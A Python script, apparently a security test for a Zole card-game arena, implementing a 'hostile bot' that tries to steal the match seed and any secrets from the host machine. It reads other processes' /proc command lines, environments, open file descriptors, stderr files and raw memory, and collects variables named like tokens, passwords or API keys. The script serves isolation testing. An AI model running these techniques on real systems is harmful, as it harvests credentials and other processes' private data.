#!/usr/bin/env python3
"""Hostile bot: tries to learn the match seed (and so every hand) or the organizer's secrets.

At start, before the handshake, and again at its first ``go`` (when the log has its header and
the other bots run), it tries every way a bot sharing the organizer's machine has:

* ``cmdline``: ``--seed`` in an ancestor's command line (``/proc/<ppid>/cmdline``);
* ``cmdline-scan``: ``--seed`` in any visible process's command line;
* ``environ``: the arena's environment (``/proc/<ppid>/environ``) and its own (``os.environ``):
  a seed-like variable, or anything named like a secret (``*SECRET*``, ``*TOKEN*``...);
* ``log``: the log's header (its path from the arena's command line, the arena's open files or
  this bot's own stderr file name), read for its ``seed``;
* ``fd``: the arena's open files through ``/proc/<pid>/fd/N`` (which bypasses the file's
  folder), and the other bots' stderr files through their ``/proc/<pid>/fd/2``;
* ``mem``: the arena's memory (``/proc/<pid>/mem``), searched for ``--seed N`` and
  ``"seed":N``.

Each success reports the seed it found: ``ATTACK log SUCCEEDED seed=1234 via /path``. With a
seed and ``zole_arena`` importable it also deals deal 1 from it and reports the three hands
(``ATTACK deal-hands SUCCEEDED deal=1 hands=...``): the other players' cards.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import stat
import sys
from pathlib import Path

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile

SECRET_NAME = re.compile(r"SEED|SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|CREDENTIAL", re.I)
SEED_IN_MEMORY = (re.compile(rb"--seed\x00(\d{1,20})\x00"), re.compile(rb'"seed":(\d{1,20})[,}]'))
#: At most this much of a process's memory is read (the arena is a Python process of ~50 MB).
MEMORY_BUDGET = 512 * 1024 * 1024

found_seeds: set[int] = set()


def found(attack: str, seed: int, via: str) -> None:
    found_seeds.add(seed)
    hostile.report(attack, True, f"seed={seed} via {via}")


def try_cmdline(stage: str) -> None:
    for pid in hostile.ancestors():
        value = hostile.option_value(hostile.cmdline(pid), "--seed")
        if value is not None and value.isdigit():
            found(f"cmdline-{stage}", int(value), f"/proc/{pid}/cmdline")
            return
    seen = hostile.ancestors()
    hostile.report(f"cmdline-{stage}", False, f"no --seed in the ancestors' command lines {seen}")


def try_cmdline_scan(stage: str) -> None:
    hits = []
    for pid in hostile.pids():
        value = hostile.option_value(hostile.cmdline(pid), "--seed")
        if value is not None and value.isdigit() and pid != os.getpid():
            hits.append((int(value), pid))
    if hits:
        for seed, _ in hits:
            found_seeds.add(seed)
        seeds = ",".join(f"{seed}@{pid}" for seed, pid in hits)
        hostile.report(f"cmdline-scan-{stage}", True, f"seeds={seeds} via /proc/*/cmdline")
    else:
        count = len(hostile.pids())
        hostile.report(f"cmdline-scan-{stage}", False, f"no --seed among {count} processes")


def secrets_in(variables: dict[str, str]) -> list[str]:
    return [f"{name}={value}" for name, value in variables.items() if SECRET_NAME.search(name)]


def try_environ(stage: str) -> None:
    for pid in hostile.ancestors():
        try:
            data = Path(f"/proc/{pid}/environ").read_bytes()
        except OSError as exc:
            hostile.report(f"arena-environ-{stage}", False, hostile.why(exc))
            break
        pairs = dict(
            item.decode("utf-8", "replace").partition("=")[::2]
            for item in data.split(b"\0")
            if b"=" in item
        )
        leaked = secrets_in(pairs)
        if leaked:
            hostile.report(
                f"arena-environ-{stage}", True, f"/proc/{pid}/environ: {' '.join(leaked)}"
            )
        else:
            hostile.report(
                f"arena-environ-{stage}",
                False,
                f"/proc/{pid}/environ: {len(pairs)} variables, none named like a secret",
            )
        break
    else:
        hostile.report(f"arena-environ-{stage}", False, "no ancestor process visible")
    leaked = secrets_in(dict(os.environ))
    hostile.report(
        f"own-environ-{stage}",
        bool(leaked),
        " ".join(leaked) or f"{len(os.environ)} variables, none named like a secret",
    )


def seed_of_header(data: bytes) -> int | None:
    first = data.split(b"\n", 1)[0]
    with contextlib.suppress(ValueError, AttributeError):
        seed = json.loads(first).get("seed")
        if isinstance(seed, int):
            return seed
    return None


def try_log(stage: str) -> None:
    candidates = hostile.log_candidates()
    reasons = []
    for path in candidates:
        try:
            with open(path, "rb") as handle:
                data = handle.read(1 << 20)
        except OSError as exc:
            reasons.append(f"{path}: {hostile.why(exc)}")
            continue
        seed = seed_of_header(data)
        if seed is not None:
            found(f"log-{stage}", seed, str(path))
            return
        reasons.append(f"{path}: no seed in its first line")
    hostile.report(f"log-{stage}", False, "; ".join(reasons) or "no log path found")


def try_fd(stage: str) -> None:
    reasons = []
    for pid in hostile.ancestors():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as exc:
            reasons.append(f"/proc/{pid}/fd: {hostile.why(exc)}")
            continue
        for fd in fds:
            link = f"/proc/{pid}/fd/{fd}"
            with contextlib.suppress(OSError):
                target = os.readlink(link)
                if not stat.S_ISREG(os.stat(link).st_mode):  # a pipe or a FIFO could block
                    continue
                with open(link, "rb") as handle:
                    seed = seed_of_header(handle.read(1 << 20))
                if seed is not None:
                    found(f"fd-{stage}", seed, f"{link} -> {target}")
                    return
        reasons.append(f"/proc/{pid}/fd: no open file with a seed")
    hostile.report(f"fd-{stage}", False, "; ".join(reasons) or "no ancestor process visible")


def try_sibling_stderr(stage: str) -> None:
    read = []
    for pid in hostile.siblings():
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/{pid}/fd/2")
            if target.startswith("/"):
                with open(f"/proc/{pid}/fd/2", "rb") as handle:
                    read.append(f"{pid}:{target}:{len(handle.read(1 << 16))}B")
    hostile.report(
        f"sibling-stderr-{stage}",
        bool(read),
        f"read {' '.join(read)}" if read else f"no sibling's stderr file ({hostile.siblings()})",
    )


def try_mem(stage: str) -> None:
    reasons = []
    for pid in hostile.arena_processes() or hostile.ancestors()[:1]:
        try:
            maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)  # noqa: SIM115
        except OSError as exc:
            reasons.append(f"/proc/{pid}/mem: {hostile.why(exc)}")
            continue
        budget = MEMORY_BUDGET
        with mem:
            for line in maps:
                fields = line.split()
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if "r" not in fields[1] or end - start > budget or fields[-1] == "[vvar]":
                    continue
                budget -= end - start
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, OverflowError):
                    continue
                for pattern in SEED_IN_MEMORY:
                    hit = pattern.search(data)
                    if hit:
                        found(f"mem-{stage}", int(hit.group(1)), f"/proc/{pid}/mem at {start:#x}")
                        return
        reasons.append(f"/proc/{pid}/mem: read, no seed found")
    hostile.report(f"mem-{stage}", False, "; ".join(reasons) or "no ancestor process visible")


def try_hands() -> None:
    """Deal 1 of every seed found, as the arena deals it."""
    if not found_seeds:
        hostile.report("deal-hands", False, "no seed found")
        return
    try:
        from zole_arena.game.cards import cards_of
        from zole_arena.game.rules import load_rules
        from zole_arena.game.state import DealState
    except ImportError as exc:
        hostile.report("deal-hands", False, f"zole_arena not importable: {hostile.why(exc)}")
        return
    for seed in sorted(found_seeds):
        deal = DealState.from_seed(load_rules("wpt"), seed, 1)
        hands = "|".join(
            ",".join(str(card) for card in cards_of(mask)) for mask in deal.initial_hands
        )
        hostile.report("deal-hands", True, f"seed={seed} deal=1 hands={hands}")


def attack(stage: str) -> None:
    for attempt in (try_cmdline, try_cmdline_scan, try_environ, try_log, try_fd, try_mem):
        try:
            attempt(stage)
        except Exception as exc:  # an attempt that breaks is a failed attempt, not a crash
            hostile.report(f"{attempt.__name__[4:]}-{stage}", False, hostile.why(exc))
    if stage == "go":
        try_sibling_stderr(stage)
        try_hands()


def main() -> None:
    hostile.parser(__doc__ or "").parse_known_args()
    attack("start")
    done = False

    def at_go(fields: hostile.Fields) -> None:
        nonlocal done
        if not done:
            done = True
            attack("go")

    hostile.play("SeedThief", on_go=at_go)


if __name__ == "__main__":
    main()
